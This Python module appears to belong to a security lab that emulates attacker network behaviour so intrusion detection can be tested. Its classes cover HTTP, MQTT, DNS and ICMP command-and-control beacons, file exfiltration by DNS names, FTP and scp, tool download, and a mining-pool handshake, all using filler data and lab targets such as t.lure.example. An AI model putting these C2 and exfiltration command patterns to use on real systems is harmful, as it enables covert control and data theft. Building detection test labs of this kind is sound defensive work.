"""Command and control: implants that call home, each by another protocol."""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import ClassVar

from labs.scenario import Stage
from labs.services.things import BEACONS, DROP

from .base import Exchange, Receipt, Red, Tool
from .kit import (
    COMMAND_AND_CONTROL,
    CURL,
    EXFILTRATION,
    IMPACT,
    dice,
    exchange,
    goes_over,
    literal,
    number,
    over,
    receipt,
)
from .means_b_inside import SSH_OPTIONS, FtpUpload, with_password
from .means_b_kit import DIG, ICMP, TCP, UDP, Command, Scripted, Single, Talk, word_list

LURE = "t.lure.example"
MOST_NAMES = 60
NAMES_S = 8.0
"""All names take a fraction of a second where they are answered; where they are not, each takes one."""
MOST_ECHOES = 60
PASSED = 0.8
"""Share of echoes that must come back for a channel."""
DROP_LINES = 8000


class HttpBeacon(Scripted):
    """The same small question every half second, until there is a task."""

    id = "http-beacon"
    about = "An implant asks a web server for tasks"
    tactic = COMMAND_AND_CONTROL
    technique = "T1071.001"
    tools = (CURL,)
    countered_by = ()
    service_kinds = ("c2-web",)
    outside = True
    port = 80
    sid, classification, app = 9002025, "command-and-control", "http"

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """A few calls more than it takes."""
        url = f"http://{literal(stage.target)}:{self.at(stage)}/gate?id={dice(stage).getrandbits(64):016x}"
        argv = ["curl", "-sS", "--connect-timeout", "2", "--max-time", "3", "--fail-early", "--rate", "120/m"]
        yield Command([*argv, *[url] * (BEACONS + 2)], 12)


class ToolTransfer(Scripted):
    """A file with a program's header, and no program."""

    id = "tool-transfer"
    about = "An implant fetches a tool from outside"
    tactic = COMMAND_AND_CONTROL
    technique = "T1105"
    tools = (CURL,)
    countered_by = ()
    service_kinds = ("c2-web",)
    outside = True
    port = 80
    sid, classification, app, to_server = 9002026, "command-and-control", "http", False
    bytes_needed = 30_000

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """One download."""
        url = f"http://{literal(stage.target)}:{self.at(stage)}/tool"
        yield Command(["curl", "-sS", "--connect-timeout", "2", "--max-time", "5", "--output", "-", url])


class NonstandardPortC2(Talk):
    """A line of text to a port that belongs to nothing."""

    id = "nonstandard-port-c2"
    about = "An implant talks over a port of its own"
    tactic = COMMAND_AND_CONTROL
    technique = "T1571"
    countered_by = ()
    service_kinds = ("c2-raw",)
    outside = True
    port = 4444
    says = ("IMPLANT 5ec100p\n",)
    sid, classification = 9002027, "command-and-control"


class MqttC2(Scripted):
    """An implant subscribes to its tasks and reports."""

    id = "mqtt-c2"
    about = "An implant gets its tasks from a message broker"
    tactic = COMMAND_AND_CONTROL
    technique = "T1071.005"
    tools = (Tool(program="mosquitto_sub", package="mosquitto-clients"),)
    countered_by = ()
    service_kinds = ("mqtt",)
    outside = True
    port = 1883
    sid, classification, app = 9002028, "command-and-control", "mqtt"

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """One task, one report."""
        broker = ["-h", str(stage.target), "-p", str(self.at(stage))]
        yield Command(["mosquitto_sub", *broker, "-t", "c2/task/lab", "-C", "1", "-W", "4"], 5)
        yield Command(["mosquitto_pub", *broker, "-t", "c2/report/lab", "-m", "done"], 3)


class Names(Scripted):
    """Names that are asked for: over UDP, and over TCP by whoever was blocked there."""

    tools: ClassVar[tuple[Tool, ...]] = (DIG,)
    countered_by: ClassVar[tuple[str, ...]] = ()  # it asks its own server, not the house's
    names: ClassVar[tuple[str, ...]] = (LURE,)
    service_kinds: ClassVar[tuple[str, ...]] = ("dns",)
    outside = True
    port = 53
    transport = UDP
    classification, app, handshake = "command-and-control", "dns", False
    alerts = 2

    def otherwise(self, stage: Stage) -> Stage:
        """Over TCP."""
        return over(stage, "tcp")

    def exchanges(self, stage: Stage) -> tuple[Exchange, ...]:
        """Questions and answers."""
        protocol = TCP if goes_over(stage, "tcp") else self.transport
        return (exchange(stage, self.at(stage), protocol=protocol, bytes_needed=self.bytes_needed),)


class DnsTunnel(Names):
    """Long names to the attacker's name server, and answers in TXT."""

    id = "dns-tunnel"
    about = "An implant speaks in names it asks for"
    tactic = COMMAND_AND_CONTROL
    technique = "T1071.004"
    sid = 9002029

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """At most `MOST_NAMES` questions."""
        chance = dice(stage)
        names = [f"{chance.getrandbits(200):050x}.{LURE}" for _ in range(number(stage, "names", 12, MOST_NAMES))]
        yield ask(stage, self.at(stage), [(name, "TXT") for name in names])


class ExfilDns(Names):
    """A file in pieces, each a name; the last answer is the receipt."""

    id = "exfil-dns"
    about = "A file leaves as names that are asked for"
    tactic = EXFILTRATION
    technique = "T1048.003"
    sid = 9002030
    bytes_needed = 2000

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """At most `MOST_NAMES` pieces of 100 characters."""
        chance, count = dice(stage), number(stage, "names", 24, MOST_NAMES)
        pieces = ["".join(chance.choices("abcdefghijklmnopqrstuvwxyz234567", k=100)) for _ in range(count)]
        names = [f"{piece[:50]}.{piece[50:]}.{LURE}" for piece in pieces]
        yield ask(stage, self.at(stage), [*((name, "A") for name in names[:-1]), (names[-1], "TXT")])


class IcmpTunnel(Single):
    """Large echoes. Seen to succeed when they come back whole."""

    id = "icmp-tunnel"
    about = "An implant hides its talk in echo requests"
    tactic = COMMAND_AND_CONTROL
    technique = "T1095"
    tools = (Tool(program="ping", package="iputils-ping"),)
    countered_by = ()
    port = None
    outside = True
    transport = ICMP
    sid, classification, handshake = 9002031, "command-and-control", False
    alerts = 2

    def run(self, red: Red, stage: Stage) -> Receipt:
        """At most `MOST_ECHOES` echoes of 600 bytes, 20 a second."""
        started, count = red.clock_s(), number(stage, "echoes", 25, MOST_ECHOES)
        argv = ["ping", "-n", "-q", "-c", str(count), "-i", "0.05", "-W", "1", "-s", "600", "-p", "5ec100"]
        done = red.run([*argv, str(stage.target)], timeout_s=10)
        found = re.search(r"(\d+) received", done.stdout)
        back = int(found[1]) if found else 0
        return receipt(red, stage, started, measured=back >= PASSED * count, detail=done.stdout)


class StratumMiner(Talk):
    """A miner's first two lines to its pool."""

    id = "stratum-miner"
    about = "A host joins a mining pool"
    tactic = IMPACT
    technique = "T1496.001"
    countered_by = ()
    service_kinds = ("c2-raw",)
    outside = True
    port = 3333
    says = (
        '{"id": 1, "method": "mining.subscribe", "params": ["lab/1.0"]}\n',
        '{"id": 2, "method": "mining.authorize", "params": ["lab", "x"]}\n',
    )
    sid, classification = 9002032, "policy-violation"


class ExfilFtp(FtpUpload):
    """A file goes to a server outside in clear text."""

    id = "exfil-ftp"
    about = "A file leaves by FTP"
    tactic = EXFILTRATION
    technique = "T1048.003"
    service_kinds = ("ftp",)
    outside = True
    countered_by = ()
    path = "incoming/data"
    sid, classification = 9002033, "policy-violation"


class ExfilScp(Scripted):
    """A file goes to a server outside, encrypted; only its size shows."""

    id = "exfil-scp"
    about = "A file leaves by scp"
    tactic = EXFILTRATION
    technique = "T1048.002"
    tools = (Tool(program="scp", package="openssh-client"),)
    countered_by = ()
    service_kinds = ("c2-ssh",)
    outside = True
    port = 22
    sid, classification, app = 9002034, "policy-violation", "ssh"
    bytes_needed = 190_000

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """One copy of some 190 kB of nothing, and the question whether it arrived."""
        name, password = DROP
        file = word_list(red, "archive", ["SECLOOP harmless filler"] * DROP_LINES)
        there = f"{name}@{literal(stage.target)}"
        copy = ["scp", *SSH_OPTIONS, "-P", str(self.at(stage)), file, f"{there}:archive"]
        yield Command(with_password(red, name, password, copy), 12)
        ask_it = ["ssh", *SSH_OPTIONS, "-p", str(self.at(stage)), f"{name}@{stage.target}", "received"]
        yield Command(with_password(red, name, password, ask_it), 8)


class InternalProxy(Scripted):
    """An inner web server that fetches for whoever asks; ours only says so."""

    id = "internal-proxy"
    about = "An inner web server is used as a relay"
    tactic = COMMAND_AND_CONTROL
    technique = "T1090.001"
    service_kinds = ("http",)
    tools = (CURL,)
    countered_by = ("patch_vulnerability", "close_port", "stop_process")
    names = ("inner.house.example",)
    port = 80
    sid, classification, app = 9002035, "command-and-control", "http"

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """One request by way of it."""
        relay = f"http://{literal(stage.target)}:{self.at(stage)}"
        argv = ["curl", "-sS", "--connect-timeout", "2", "--max-time", "4", "-x", relay]
        yield Command([*argv, "http://inner.house.example/flag"])


def ask(stage: Stage, port: int, questions: list[tuple[str, str]]) -> Command:
    """Names, one after the other, by one run of dig."""
    argv = ["dig", f"@{stage.target}", "-p", str(port), "+time=1", "+tries=1", "+short"]
    argv += ["+tcp"] if goes_over(stage, "tcp") else []
    return Command([*argv, *(part for question in questions for part in question)], NAMES_S)
